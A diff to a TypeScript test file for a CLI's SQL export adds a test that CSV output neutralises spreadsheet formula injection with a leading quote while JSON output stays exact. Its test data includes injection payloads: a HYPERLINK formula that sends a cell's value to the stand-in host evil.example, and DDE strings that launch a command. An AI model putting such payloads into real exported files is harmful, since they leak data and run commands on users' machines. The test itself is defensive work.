@@ -71,6 +71,46 @@ describe('reporter-etl sql', () => {
     expect(records[0]!.timestamp).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
   });
 
+  it('CSV: a text a spreadsheet would run as a formula gets a leading quote (OWASP); JSON stays exact', async () => {
+    const cells = {
+      link: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      cmd: "+cmd|' /C calc'!A0",
+      sum: "@SUM(1+1)*cmd|' /C calc'!A0",
+      minus: "-2+3+cmd|' /C calc'!A0",
+      tab: '\t=1+1',
+      cr: '\r=1+1',
+      plain: 'a = b + c',
+      negative: '-5',
+      exponent: '+1.5e3',
+    };
+    // a SQL literal of the text, its tab and carriage return as chr()
+    const literal = (text: string) =>
+      `'${text.replaceAll("'", "''").replaceAll('\t', "' || chr(9) || '").replaceAll('\r', "' || chr(13) || '")}'`;
+    const columns = Object.entries(cells).map(([name, text]) => `${literal(text)} as ${name}`);
+    const sql = `select ${columns.join(', ')}, -5 as n`;
+    const csv = await runCli(['sql', '--format', 'csv', sql], h.env);
+    expect(csv.code, csv.stderr).toBe(0);
+    const [row] = parse(csv.stdout, { columns: true }) as Record<string, string>[];
+    expect(row).toEqual({
+      link: `'${cells.link}`,
+      cmd: `'${cells.cmd}`,
+      sum: `'${cells.sum}`,
+      minus: `'${cells.minus}`,
+      tab: `'${cells.tab}`,
+      // the CLI shows a carriage return as \r (src/text/escape-terminal-text.ts), the quote before it
+      cr: "'\\r=1+1",
+      plain: 'a = b + c',
+      negative: '-5',
+      exponent: '+1.5e3',
+      n: '-5',
+    });
+    const json = await runCli(['sql', '--json', sql], h.env);
+    const exact = JSON.parse(json.stdout)[0];
+    expect(exact.link).toBe(cells.link);
+    expect(exact.tab).toBe('\t=1+1');
+    expect(exact.n).toBe(-5);
+  });
+
   it('quotes CSV fields as RFC 4180 and keeps JSON types', async () => {
     const csv = await runCli(
       [
